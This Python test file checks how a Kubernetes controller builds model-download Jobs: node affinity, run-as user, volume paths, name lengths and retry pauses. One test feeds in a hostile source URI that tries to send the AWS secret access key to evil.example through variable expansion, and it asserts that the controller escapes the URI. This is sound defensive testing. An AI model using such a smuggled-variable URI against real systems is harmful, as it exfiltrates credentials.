"""The Job that downloads a model: where it runs, as whom, and under which name."""

from __future__ import annotations

from isvc.api.localmodel import LocalModelInfo
from isvc.controllers.localmodelnode.disk import Stock
from isvc.controllers.localmodelnode.job import claim_of, download_job
from isvc.controllers.localmodelnode.observe import Observed
from isvc.controllers.localmodelnode.plan import pause_after
from isvc.controllers.localmodelnode.space import Space
from isvc.engine.needs import Answers
from isvc.kube.objects import Object
from isvc.serving.config import Config
from isvc.serving.environment import ModelNode
from isvc.serving.storage.uris import storage_key

IRIS = LocalModelInfo(model_name="iris", source_model_uri="gs://models/iris", service_account_name="")


def job_on(node: str, model: LocalModelInfo = IRIS, attempt: int = 1) -> Object:
    observed = Observed(
        {},
        models=(model,),
        config=Config(),
        groups={},
        storage_containers=[],
        downloads=(),
        in_use=frozenset(),
        stock=Stock(),
        place=ModelNode(node, user=1000),
        answers=Answers(),
        now="",
    )
    return download_job(observed, model, Space(needed=0, left=7, group="workers"), attempt)


def test_it_runs_on_exactly_its_node():
    spec = job_on("gpu-1")["spec"]["template"]["spec"]
    required = spec["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]
    assert required["nodeSelectorTerms"] == [
        {"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["gpu-1"]}]}
    ]
    assert spec["tolerations"] == [{"operator": "Exists"}]
    assert spec["securityContext"] == {"runAsUser": 1000}


def test_it_fills_a_folder_beside_the_model_and_knows_what_is_left():
    (container,) = job_on("a")["spec"]["template"]["spec"]["containers"]
    assert container["volumeMounts"][0]["subPath"] == f"models/.downloads/{storage_key(IRIS.source_model_uri)}/model"
    assert container["args"] == ["gs://models/iris", "/mnt/models"]
    assert container["env"] == [{"name": "STORAGE_MAX_BYTES", "value": "7"}]


def test_a_source_cannot_ask_for_the_credentials_beside_it():
    """The kubelet turns $$ into $, and knows no variable then."""
    evil = LocalModelInfo(model_name="iris", source_model_uri="https://evil.example/$(AWS_SECRET_ACCESS_KEY)")
    (container,) = job_on("a", evil)["spec"]["template"]["spec"]["containers"]
    assert container["args"][0] == "https://evil.example/$$(AWS_SECRET_ACCESS_KEY)"


def test_names_and_labels_fit_whatever_the_node_is_called():
    job = job_on(f"ip-10-0-0-1.{'x' * 200}.internal")
    assert len(job["metadata"]["name"]) <= 63
    assert all(len(value) <= 63 for value in job["metadata"]["labels"].values())
    assert job_on("a")["metadata"]["name"] != job_on("a", attempt=2)["metadata"]["name"]


def test_claims_are_those_of_kserve():
    assert claim_of(IRIS, "workers") == "iris-workers"
    of_namespace = LocalModelInfo(model_name="iris", source_model_uri="gs://models/iris", namespace="team")
    assert claim_of(of_namespace, "workers") == "iris-workers-team-download"


def test_pauses_between_attempts_grow_and_end():
    assert [pause_after(attempt) for attempt in (1, 2, 3, 100)] == [10.0, 20.0, 40.0, 600.0]
